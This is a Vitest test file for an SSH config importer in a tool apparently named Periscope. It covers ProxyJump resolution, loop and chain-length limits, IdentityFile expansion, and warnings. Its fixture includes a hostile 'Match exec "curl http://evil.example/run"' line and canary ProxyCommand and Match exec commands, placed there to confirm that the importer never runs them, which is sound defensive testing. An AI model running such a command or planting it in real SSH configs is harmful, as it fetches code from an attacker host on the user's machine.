import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { importSshConfig } from '../../../../src-main/profiles/ssh-config-import.js';

const CONFIG = `
# personal config
Host bastion
  HostName bastion.example.com
  User jump
  IdentityFile ~/.ssh/id_bastion

Host web1 web1-alias
  HostName 10.0.0.11
  Port 2222
  ProxyJump bastion

Host db
  HostName=%h.internal
  User "dba"
  ProxyJump ops@bastion:2200,web1

Host legacy
  ProxyCommand ssh -W %h:%p gateway

Match exec "curl http://evil.example/run"
  User pwned

Host *.example.com !skip.example.com
  User wildcard-user

Host *
  User default-user
  IdentityFile ~/.ssh/id_default
  IdentityFile ~/.ssh/id_second
`;

describe('importSshConfig', () => {
  const result = importSshConfig(CONFIG, { home: '/home/me', localUser: 'me' });
  const byName = Object.fromEntries(result.profiles.map((p) => [p.name, p]));

  it('imports every concrete Host alias, in order, and no wildcard patterns', () => {
    expect(result.profiles.map((p) => p.name)).toEqual([
      'bastion',
      'web1',
      'web1-alias',
      'db',
      'legacy',
    ]);
  });

  it('takes the first value of each keyword, expands ~ in IdentityFile and %h in HostName', () => {
    expect(byName.bastion).toMatchObject({
      host: 'bastion.example.com',
      port: 22,
      user: 'jump',
      auth: { kind: 'key', keyPath: '/home/me/.ssh/id_bastion' },
      jumpHosts: [],
    });
    expect(byName.db).toMatchObject({ host: 'db.internal', user: 'dba' });
    expect(byName.legacy).toMatchObject({
      host: 'legacy',
      user: 'default-user',
      auth: { kind: 'key', keyPath: '/home/me/.ssh/id_default' },
    });
  });

  it('resolves ProxyJump hops through the same config, with user@host:port overrides', () => {
    expect(byName.web1).toMatchObject({ host: '10.0.0.11', port: 2222 });
    expect(byName.web1?.jumpHosts).toEqual([
      {
        kind: 'address',
        host: 'bastion.example.com',
        port: 22,
        user: 'jump',
        auth: { kind: 'key', keyPath: '/home/me/.ssh/id_bastion' },
      },
    ]);
    expect(byName.db?.jumpHosts).toEqual([
      expect.objectContaining({ host: 'bastion.example.com', port: 2200, user: 'ops' }),
      expect.objectContaining({ host: '10.0.0.11', port: 2222, user: 'default-user' }),
    ]);
  });

  it('never evaluates Match (no exec) nor imports ProxyCommand, and says so', () => {
    expect(JSON.stringify(result.profiles)).not.toContain('pwned');
    expect(JSON.stringify(result.profiles)).not.toContain('gateway');
    expect(result.warnings).toEqual([
      expect.stringMatching(
        /^"Match exec curl http:\/\/evil\.example\/run" was not evaluated: it would run a command/,
      ),
      expect.stringMatching(
        /^legacy: ProxyCommand needs your consent to run and Periscope never runs it/,
      ),
    ]);
  });

  it('never runs a Match exec command nor a DNS lookup, and applies Match host blocks', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'periscope-sshcfg-'));
    const canary = path.join(dir, 'ran');
    try {
      const { profiles, warnings } = importSshConfig(
        [
          'Host box',
          '  HostName box.lan',
          '  CanonicalizeHostName yes',
          '  CanonicalDomains example.com',
          `Match exec "touch ${canary}"`,
          '  Port 2022',
          'Match host box.lan',
          '  User from-match',
          'Include ~/.ssh/config.d/*',
        ].join('\n'),
        { home: '/h', localUser: 'me' },
      );
      expect(existsSync(canary)).toBe(false);
      expect(profiles).toEqual([
        expect.objectContaining({ name: 'box', host: 'box.lan', port: 22, user: 'from-match' }),
      ]);
      expect(warnings).toEqual([
        expect.stringMatching(/^"Match exec touch .*" was not evaluated/),
        expect.stringMatching(/^"Include ~\/\.ssh\/config\.d\/\*" was not followed/),
        expect.stringMatching(/^CanonicalizeHostName was ignored/),
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('uses the agent when there is no IdentityFile, and the local user by default', () => {
    const { profiles } = importSshConfig('Host box\n  HostName 192.0.2.1\n', {
      home: '/h',
      localUser: 'me',
    });
    expect(profiles).toEqual([
      expect.objectContaining({
        name: 'box',
        host: '192.0.2.1',
        user: 'me',
        port: 22,
        auth: { kind: 'agent' },
      }),
    ]);
  });

  it("follows the first hop's own ProxyJump recursively, as ssh -J does, not the later hops", () => {
    const { profiles, warnings } = importSshConfig(
      [
        'Host outer',
        '  HostName outer.example.com',
        '  User gate',
        'Host inner',
        '  HostName 10.0.0.2',
        '  ProxyJump outer',
        'Host side',
        '  HostName 10.0.0.3',
        '  Port 2022',
        '  ProxyJump nowhere-used',
        'Host app',
        '  HostName 10.0.9.9',
        '  ProxyJump inner',
        'Host app2',
        '  HostName 10.0.9.10',
        '  ProxyJump deploy@inner:2200,side',
      ].join('\n'),
      { home: '/h', localUser: 'me' },
    );
    const hops = (name: string): string[] =>
      (profiles.find((p) => p.name === name)?.jumpHosts ?? []).map((j) =>
        j.kind === 'address' ? `${j.user}@${j.host}:${j.port}` : j.profileId,
      );
    // app → inner, and inner is itself reached through outer.
    expect(hops('app')).toEqual(['gate@outer.example.com:22', 'me@10.0.0.2:22']);
    // ssh runs "ssh -J deploy@inner:2200 side": side's own ProxyJump is overridden by that -J,
    // inner (reached by a plain ssh) keeps its own ProxyJump.
    expect(hops('app2')).toEqual([
      'gate@outer.example.com:22',
      'deploy@10.0.0.2:2200',
      'me@10.0.0.3:2022',
    ]);
    expect(hops('side')).toEqual(['me@nowhere-used:22']);
    expect(warnings).toEqual([]);
  });

  it('names a ProxyJump loop and imports that host without jump hosts', () => {
    const { profiles, warnings } = importSshConfig(
      [
        'Host a',
        '  ProxyJump b',
        'Host b',
        '  ProxyJump c',
        'Host c',
        '  ProxyJump a',
        'Host self',
        '  ProxyJump self',
        'Host fine',
        '  ProxyJump z',
      ].join('\n'),
      { home: '/h', localUser: 'me' },
    );
    expect(profiles.map((p) => [p.name, p.jumpHosts?.length])).toEqual([
      ['a', 0],
      ['b', 0],
      ['c', 0],
      ['self', 0],
      ['fine', 1],
    ]);
    expect(warnings).toEqual([
      'a: ProxyJump loops (a → b → c → a), so ssh could never connect; its jump hosts were not imported — fix the config or add them by hand.',
      'b: ProxyJump loops (b → c → a → b), so ssh could never connect; its jump hosts were not imported — fix the config or add them by hand.',
      'c: ProxyJump loops (c → a → b → c), so ssh could never connect; its jump hosts were not imported — fix the config or add them by hand.',
      'self: ProxyJump loops (self → self), so ssh could never connect; its jump hosts were not imported — fix the config or add them by hand.',
    ]);
  });

  it("refuses a chain longer than a profile takes, and never runs a hop's ProxyCommand", () => {
    const chain = Array.from({ length: 10 }, (_, i) => `Host h${i}\n  ProxyJump h${i + 1}`);
    const dir = mkdtempSync(path.join(os.tmpdir(), 'periscope-sshcfg-'));
    const canary = path.join(dir, 'ran');
    try {
      const { profiles, warnings } = importSshConfig(
        [...chain, `Host h10\n  ProxyCommand touch ${canary}`].join('\n'),
        { home: '/h', localUser: 'me' },
      );
      expect(existsSync(canary)).toBe(false);
      expect(profiles.find((p) => p.name === 'h0')?.jumpHosts).toEqual([]);
      expect(profiles.find((p) => p.name === 'h2')?.jumpHosts).toHaveLength(8);
      expect(warnings).toContain(
        'h0: its ProxyJump chain has 10 hops and a profile takes at most 8; its jump hosts were not imported.',
      );
      expect(warnings).toContain(
        'h9: jump host h10 has a ProxyCommand, which Periscope never runs; it is reached directly.',
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('takes a relative IdentityFile from the home directory and says so (ssh would use its cwd)', () => {
    const { profiles, warnings } = importSshConfig(
      [
        'Host rel',
        '  IdentityFile .ssh/id_rel',
        'Host bare',
        '  IdentityFile id_%h',
        '  ProxyJump rel',
        'Host abs',
        '  IdentityFile /keys/id_abs',
        'Host other',
        '  IdentityFile ~bob/.ssh/id',
      ].join('\n'),
      { home: '/home/me', localUser: 'me' },
    );
    const key = (name: string): string | undefined => {
      const auth = profiles.find((p) => p.name === name)?.auth;
      return auth?.kind === 'key' ? auth.keyPath : undefined;
    };
    expect(key('rel')).toBe('/home/me/.ssh/id_rel');
    expect(key('bare')).toBe('/home/me/id_bare');
    expect(key('abs')).toBe('/keys/id_abs');
    expect(key('other')).toBe('~bob/.ssh/id');
    expect(profiles.find((p) => p.name === 'bare')?.jumpHosts).toEqual([
      expect.objectContaining({ auth: { kind: 'key', keyPath: '/home/me/.ssh/id_rel' } }),
    ]);
    // Once per host, even though "rel" is also a jump host of "bare".
    expect(warnings).toEqual([
      'rel: IdentityFile ".ssh/id_rel" is relative, which ssh opens from the directory it runs in; Periscope took /home/me/.ssh/id_rel — check the key path.',
      'bare: IdentityFile "id_%h" is relative, which ssh opens from the directory it runs in; Periscope took /home/me/id_bare — check the key path.',
      'other: IdentityFile "~bob/.ssh/id" names another user\'s home; it was kept as written — check the key path.',
    ]);
  });
});
